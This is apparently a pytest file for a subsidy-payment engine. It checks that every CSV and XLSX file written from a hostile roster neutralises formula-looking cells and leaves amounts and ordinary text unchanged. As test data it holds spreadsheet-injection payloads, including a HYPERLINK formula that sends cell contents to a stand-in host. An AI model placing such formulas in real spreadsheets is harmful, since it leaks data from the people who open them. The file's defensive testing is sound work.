"""Outputs that cannot attack their readers: a roster full of formula-looking texts, and every file written from it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from helpers import run
from subsidy_engine.run.output import write_csv
from subsidy_engine.run.safecells import neutral, restore, risky

HOSTILE = Path(__file__).resolve().parent / "hostile" / "outputs" / "formula-names.csv"
FORMULA_START = re.compile(r"^[\t\r\n ]*[=+\-@]")
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
LINK = '=HYPERLINK("http://x/?"&A1,"点我")'
EXPECTED_FILES = {
    "run/payments.csv",
    "run/payments.xlsx",
    "run/totals.csv",
    "run/rejects.csv",
    "run/publish/payments.csv",
    "run/publish/payments.xlsx",
    "run/publish/totals.csv",
    "audit/findings.csv",
    "audit/diff.csv",
    "audit/audit.xlsx",
    "audit-roster/findings.csv",
    "audit-roster/audit.xlsx",
    "diff/diff.csv",
    "diff.xlsx",
    "validate-rejects.csv",
}


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every command that writes, run on the hostile roster; a paid list with one amount raised and one line
    dropped (kept in our own CSV form, `'` and all, as a bank would send our list back)."""
    d = tmp_path_factory.mktemp("hostile")
    src = str(HOSTILE)
    code, _, err = run(
        "evaluate",
        src,
        "--period",
        "2023",
        "--out",
        str(d / "run"),
        "--format",
        "csv,xlsx,parquet",
        "--publish",
    )
    assert code == 0, err
    lines = (d / "run" / "payments.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    header, body = lines[0], lines[1:]
    raised = re.sub(r",1023\.00,", ",1123.00,", body[0], count=1)
    assert raised != body[0]
    (d / "inputs").mkdir()
    (d / "inputs" / "paid.csv").write_text(header + raised + "".join(body[2:]), encoding="utf-8")
    paid = str(d / "inputs" / "paid.csv")
    code, _, err = run("audit", src, "--period", "2023", "--paid", paid, "--out", str(d / "audit"))
    assert code == 1, err
    code, _, err = run("audit", src, "--period", "2023", "--out", str(d / "audit-roster"))
    assert code == 1, err  # ID_INVALID from the rejected rows
    payments = str(d / "run" / "payments.csv")
    code, _, err = run("diff", paid, payments, "--out", str(d / "diff"), "--xlsx", str(d / "diff.xlsx"))
    assert code == 1, err
    code, _, err = run("validate", src, "--out", str(d / "validate-rejects.csv"))
    assert code == 1, err
    return d


def _written(d: Path) -> list[Path]:
    return sorted(p for p in d.rglob("*") if p.is_file() and "inputs" not in p.parts)


def _csv_cells(p: Path) -> list[str]:
    return [c for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8"), newline="")) for c in row]


def test_every_output_file_was_scanned(outputs: Path) -> None:
    names = {p.relative_to(outputs).as_posix() for p in _written(outputs)}
    assert names >= EXPECTED_FILES


def test_no_csv_cell_can_start_a_formula(outputs: Path) -> None:
    found = 0
    for p in _written(outputs):
        if p.suffix != ".csv":
            continue
        for cell in _csv_cells(p):
            if FORMULA_START.match(cell):
                assert PLAIN_NUMBER.match(cell), f"{p.name}: {cell!r}"
            found += cell.startswith("'")
    assert found > 50  # the hostile texts are there, neutralised


def test_no_xlsx_cell_is_a_formula(outputs: Path) -> None:
    texts: list[str] = []
    for p in _written(outputs):
        if p.suffix != ".xlsx":
            continue
        wb = openpyxl.load_workbook(p)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{p.name} {ws.title}!{c.coordinate}: {c.value!r}"
                    if isinstance(c.value, str):
                        assert c.data_type == "s" or not c.value.startswith("="), (p.name, c.coordinate)
                        texts.append(c.value)
    assert LINK in texts and "=兴隆镇" in texts and "@金花村" in texts  # shown as text, unchanged


def test_the_texts_are_kept_and_amounts_untouched(outputs: Path) -> None:
    csv_list = pd.read_csv(outputs / "run" / "payments.csv", dtype=str, keep_default_na=False)
    parquet = pd.read_parquet(outputs / "run" / "payments.parquet")
    xlsx = pd.read_excel(outputs / "run" / "payments.xlsx", dtype=str, engine="openpyxl")
    assert "'" + LINK in set(csv_list["姓名"])
    assert LINK in set(parquet["姓名"]) and LINK in set(xlsx["姓名"])
    assert [restore(v) for v in csv_list["姓名"]] == list(parquet["姓名"])
    assert list(csv_list["金额"]) == list(parquet["金额"])  # the amount column is never touched
    assert not any(v.startswith("'") for v in csv_list["金额"])
    published = pd.read_excel(outputs / "run" / "publish" / "payments.xlsx", dtype=str, engine="openpyxl")
    assert LINK in set(published["姓名"])  # publish read payments.csv back without the `'`
    rejects = pd.read_csv(outputs / "run" / "rejects.csv", dtype=str, keep_default_na=False)
    assert "-5" in set(rejects["值"])  # a negative number stays a number


def test_our_own_csv_reads_back_exactly(outputs: Path) -> None:
    # the paid list differs from the computed one in exactly two lines, though every 户编号 carries a `'`
    diff = pd.read_csv(outputs / "audit" / "diff.csv", dtype=str, keep_default_na=False)
    assert sorted(diff["说明"]) == ["应发未发", "超标准"]
    code, out, err = run(
        "diff", str(outputs / "run" / "payments.csv"), str(outputs / "run" / "payments.xlsx")
    )
    assert (code, err) == (0, "") and "两份名单一致" in out


def test_normal_texts_and_numbers_are_never_changed(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "姓名": ["王德福", "O'Brien", "李 四", ""],
            "差额": ["-12.50", "+3", "0.00", "-7"],
            "n": [1, -2, 3, 4],
        }
    )
    write_csv(frame, tmp_path / "a.csv")
    frame.to_csv(tmp_path / "b.csv", index=False, encoding="utf-8", lineterminator="\n")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+王", "'+王"),
        ("-李", "'-李"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("\r\n@x", "'\r\n@x"),
        ("\tx", "'\tx"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("王=1", "王=1"),
        ("'=1", "''=1"),
        ("'-5", "'-5"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_neutralising_one_text(text: str, written: str) -> None:
    assert neutral(text) == written
    assert restore(neutral(text)) == text
    assert risky(text) == (written != text)


def test_a_frame_with_commas_and_formulas_goes_the_careful_way(tmp_path: Path) -> None:
    frame = pd.DataFrame({"姓名": ['=HYPERLINK("x","y")', "a,b"], "金额": ["1.00", "2.00"]})
    write_csv(frame, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == (
        '姓名,金额\n"\'=HYPERLINK(""x"",""y"")",1.00\n"a,b",2.00\n'
    )
